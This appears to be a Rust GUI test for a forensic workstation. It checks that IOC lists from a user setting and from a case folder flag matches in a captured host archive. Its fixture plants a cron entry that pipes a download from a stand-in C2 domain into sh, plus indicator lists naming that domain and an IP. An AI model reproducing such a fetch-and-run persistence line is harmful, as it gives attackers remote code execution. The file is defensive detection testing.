//! The IOC lists setting on the workstation, driven like a user in
//! egui_kittest: the examiner types a list's path into the setting on the
//! Findings screen, sees what the lists hold (and the line skipped), and
//! the scan of a captured archive finds the hits; the open case's own
//! lists (`ioc/` in the case folder) are used by the Logs screen too, and a
//! list that cannot be read is an error beside the setting.

use crate::util::gui::*;
use crate::util::write;
use exhibit::gui::Settings;
use std::path::Path;

/// A host with a cron entry calling a C2 domain and an access log with a
/// request from a listed address.
fn host(root: &Path) {
    write(
        root,
        "etc/cron.d/sync",
        b"*/10 * * * * root curl -fsS https://c2.evil.example/beacon | sh\n",
    );
    write(
        root,
        "var/log/apache2/access.log",
        b"203.0.113.66 - - [10/Mar/2026:08:00:00 +0000] \"GET /wp-login.php HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n\
          192.0.2.1 - - [10/Mar/2026:08:00:01 +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n",
    );
}

#[test]
fn the_ioc_setting_feeds_findings_and_the_case_lists_feed_logs() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("web02");
    host(&root);
    let archive = core_capture(&root, &tmp.path().join("out"));
    let mine = tmp.path().join("mine.txt");
    std::fs::write(&mine, "c2.evil[.]example # beacon\nnot a valid indicator\n").unwrap();

    let mut h = app(1440.0, 1000.0, Settings::default());
    h.step();
    click(&mut h, "Findings");
    type_into(&mut h, "IOC lists", &mine.display().to_string());
    assert_eq!(
        h.state().settings.ioc_files.trim(),
        mine.display().to_string(),
        "the setting is saved with the settings"
    );
    wait_until(&mut h, "the lists read", |h| {
        shows(h, "1 indicator(s) from 1 list(s), 1 line(s) skipped")
    });
    type_into(&mut h, "Snapshot to scan", &archive.display().to_string());
    click(&mut h, "Scan for findings");
    wait_until(&mut h, "the scan", |h| {
        h.state().v::<FindingsView>().model.is_some()
            || h.state().v::<FindingsView>().error.is_some()
    });
    let v = h.state().v::<FindingsView>();
    assert!(v.error.is_none(), "{:?}", v.error);
    let f = v
        .model
        .as_ref()
        .unwrap()
        .findings
        .iter()
        .find(|f| f.rule == "ioc.domain")
        .expect("the cron entry's domain is found")
        .clone();
    // The core capture takes the tree by its path on this machine.
    assert!(
        f.subject.path.ends_with("/etc/cron.d/sync"),
        "{}",
        f.subject.path
    );
    assert!(
        f.subject.evidence.iter().any(|e| e.contains("mine.txt:1")),
        "{:?}",
        f.subject.evidence
    );
    click_link(&mut h, &f.title);
    h.step();
    assert!(shows(&h, "c2.evil.example/beacon"), "the line is shown");

    // A case whose ioc/ folder lists the address: the Logs screen uses it
    // besides the examiner's list.
    let case = tmp.path().join("IR-20");
    exhibit::case::create(
        &case,
        exhibit::case::CaseInfo {
            case_id: "IR-20".into(),
            ..Default::default()
        },
    )
    .unwrap();
    write(
        &case,
        "ioc/addresses.csv",
        b"type,value,comment\nip,203.0.113.66,brute forcer\n",
    );
    click(&mut h, "Cases");
    type_into(&mut h, "Existing case folder", &case.display().to_string());
    click(&mut h, "Open case");
    wait_until(&mut h, "the case", |h| h.state().case.is_some());
    click(&mut h, "Logs");
    assert!(shows(&h, "+ 1 from the case"));
    wait_until(&mut h, "both lists read", |h| {
        shows(h, "2 indicator(s) from 2 list(s)")
    });
    h.state_mut().v_mut::<LogsView>().sources.paths = vec![archive.clone()];
    let ctx = h.ctx.clone();
    h.state_mut().v_mut::<LogsView>().start_load(&ctx);
    wait_until(&mut h, "the logs", |h| {
        h.state().v::<LogsView>().loaded.is_some() || h.state().v::<LogsView>().load_error.is_some()
    });
    let logs = h.state().v::<LogsView>();
    assert!(logs.load_error.is_none(), "{:?}", logs.load_error);
    let found = logs
        .loaded
        .as_ref()
        .unwrap()
        .findings
        .iter()
        .find(|f| f.rule == "ioc.ip")
        .expect("the case's address is found in the access log")
        .clone();
    assert_eq!(found.subject.ips, ["203.0.113.66"]);
    assert_eq!(found.subject.events.len(), 1);

    // A broken list: the error names it beside the setting.
    let broken = tmp.path().join("broken.json");
    std::fs::write(&broken, "[{").unwrap();
    replace_text(&mut h, "IOC lists", &broken.display().to_string());
    wait_until(&mut h, "the error", |h| shows(h, "IOC list error"));
    assert!(shows(&h, "broken.json"));
}
